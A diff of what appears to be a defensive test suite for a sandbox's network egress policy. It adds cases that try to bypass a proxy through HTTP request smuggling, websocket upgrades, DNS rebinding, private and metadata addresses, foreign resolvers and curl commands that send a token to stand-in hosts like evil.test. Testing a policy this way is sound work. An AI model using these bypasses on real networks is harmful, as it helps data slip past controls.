@@ -1,12 +1,13 @@
 """Ways around a policy. Each is tried first without one, where it has to succeed: an attempt that reaches nobody proves nothing."""
 
 import dataclasses
+import re
 import secrets
 import time
 
 from names import CDN, EVIL, EVIL_6, FOREIGN_RESOLVER, GOOD, METADATA, PRIVATE
 from sandbox import Sandbox
-from table import CURL, INSIDE, TRUST, Failed, allow, block, deny, open_to_all, shortened
+from table import CURL, IMPATIENT, INSIDE, TRUST, Failed, allow, block, deny, open_to_all, shortened
 
 # On one address live a name that is allowed and one that is not.
 FINE, FOUL = "fine.cdn.test", "foul.cdn.test"
@@ -34,13 +35,12 @@ class Evasion:
 
 def try_all(tables, evasion):
     """Without the policy it has to succeed, with it to fail."""
-    import re
 
     def attempt(policy):
         token = f"t{secrets.token_hex(8)}"
         mark = tables.world.mark()
         with Sandbox(policy) as box:
-            code, said = box.run(evasion.script, {"TOKEN": token, **TRUST})
+            code, said = box.run(evasion.script, {"TOKEN": token, **TRUST, **({} if policy is None else IMPATIENT)})
         time.sleep(GRACE_S)
         wanted = re.compile(evasion.reached.replace("TOKEN", token), re.S | re.I)
         return code, said, [line for line in tables.world.since(mark) if wanted.search(line)]
@@ -54,6 +54,7 @@ def try_all(tables, evasion):
         raise Failed(f"a server saw {reached}; the program said {shortened(said, 300)}")
     if evasion.unsaid and re.search(evasion.unsaid, said):
         raise Failed(f"the program said {shortened(said, 600)}")
+    tables.check_secrecy(said)
     return shortened(said, 80)
 
 
@@ -123,14 +124,15 @@ def requests():
     yield Evasion("chunks that only one side reads", ALLOWED, raw(f"{head}Content-Length: 5\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n{smuggled}"), foul)
     yield Evasion("two lengths", ALLOWED, raw(f"{head}Content-Length: 200\\r\\nContent-Length: 0\\r\\n\\r\\n{smuggled}"), foul)
     yield Evasion("a length with a sign", ALLOWED, raw(f"{head}Content-Length: +0\\r\\n\\r\\n{smuggled}"), foul)
-    yield Evasion("CONNECT", ALLOWED, raw(f"CONNECT {FOUL}:80 HTTP/1.1\\r\\nHost: {FINE}\\r\\n\\r\\n|{smuggled}", "parts"), f"^cdn: (CONNECT|.*TOKEN.*{FOUL})")
+    yield Evasion("CONNECT", ALLOWED, raw(f"CONNECT {FOUL}:80 HTTP/1.1\\r\\nHost: {FINE}\\r\\n\\r\\n|{smuggled}", "parts"), f"^cdn: (CONNECT |.*TOKEN.*{FOUL})")
     yield Evasion("an upgrade that the server does not take", ALLOWED, raw(get(FINE, "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n", "/first") + "|" + smuggled, "parts"), foul)
+    taken = get(FINE, "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n", "/first")
+    yield Evasion("an upgrade that the server takes", ALLOWED, raw(f"{taken}|{smuggled}", "parts", port=8081), foul, control=False)
     yield Evasion("empty lines before a request", ALLOWED, raw("\\r\\n\\r\\n" + get(FOUL)), foul, control=False)
     yield Evasion("an empty line before a request", ALLOWED, raw("\\n" + get(FOUL)), foul)
     yield Evasion("a method that nobody knows", ALLOWED, raw(f"SEIZE /$TOKEN HTTP/1.1\\r\\nHost: {FOUL}\\r\\n\\r\\n"), foul)
     yield Evasion("a method in small letters", ALLOWED, raw(f"get /$TOKEN HTTP/1.1\\r\\nHost: {FOUL}\\r\\n\\r\\n"), foul)
     yield Evasion("a version that nobody knows", ALLOWED, raw(get(FOUL, version="3.7")), foul)
-    yield Evasion("words of another protocol first", ALLOWED, raw("SSH-2.0-x\\r\\n" + get(FOUL)), f"^cdn: .*TOKEN.*{FOUL}", control=False)
     yield Evasion("a late first byte", ALLOWED, raw(get(FOUL), "late"), foul)
     yield Evasion("a late first byte, where a name is denied", DENIED, raw(get(FOUL), "late"), foul)
     yield Evasion("a request one byte at a time", ALLOWED, raw(get(FOUL), "bytes"), foul)
@@ -153,7 +155,7 @@ def addresses():
     yield Evasion("the machine's own address", open_to_all(), f"{INSIDE} connect 192.0.2.7 53", "^names: tcp", control=False)
     yield Evasion("the proxy itself", open_to_all(), f"for at in '127.213.0.1 15001' '::1 15001' '192.0.0.2 15001'; do {INSIDE} connect $at; done", "^never", control=False, unsaid="HTTP/1.1 200")
     pretend = "python3 -m http.server -b 0.0.0.0 80 >/dev/null 2>&1 & until curl -sf -o /dev/null http://127.0.0.1/; do sleep 0.1; done; "
-    yield Evasion("one's own server on every address", open_to_all(deny("evil.test")), f"{pretend}{CURL} http://{EVIL}/ && echo pretended", "^evil: ", unsaid="pretended")
+    yield Evasion("one's own server on every address", open_to_all(deny("evil.test")), f"{pretend}{CURL} -f http://{EVIL}/ && echo pretended", "^evil: ", unsaid="pretended")
 
 
 def resolution():
@@ -165,6 +167,8 @@ def resolution():
                       ("half.test", "a name of a private address, among others"), ("mapped.test", "a name of a private address in IPv6"), ("nat64.test", "a name of a private address by NAT64")]:  # fmt: skip
         yield Evasion(why, block(allow(name)), f"{CURL} http://{name}/$TOKEN; {CURL} -4 http://{name}/$TOKEN; {CURL} -6 http://{name}/$TOKEN", "^(private|metadata): ", control=False)
     yield Evasion("a name that moves to a private address", block(allow("rebind.test")), f"for n in 1 2 3; do {CURL} http://rebind.test/$TOKEN; done; {CURL} --resolve rebind.test:80:{PRIVATE} http://rebind.test/$TOKEN", "^private: ", control=False)
+    moved = f"dig +short moving.test; dig +short moving.test; sleep 6; {INSIDE} greet {GOOD} 7000"
+    yield Evasion("an address that a name had before", block(allow("moving.test")), moved, "^good: told b'TOKEN", control=False)
     yield Evasion("a name of which one knows better", block(allow("good.test")), f"{CURL} --resolve good.test:80:{EVIL} http://good.test/$TOKEN", "^evil: ")
     yield Evasion("another name server by UDP", ALLOWED, f"{INSIDE} question {FOREIGN_RESOLVER} evil.test", "^foreign resolver: ")
     yield Evasion("another name server by TCP", ALLOWED, f"{INSIDE} question {FOREIGN_RESOLVER} evil.test tcp", "^foreign resolver: ")
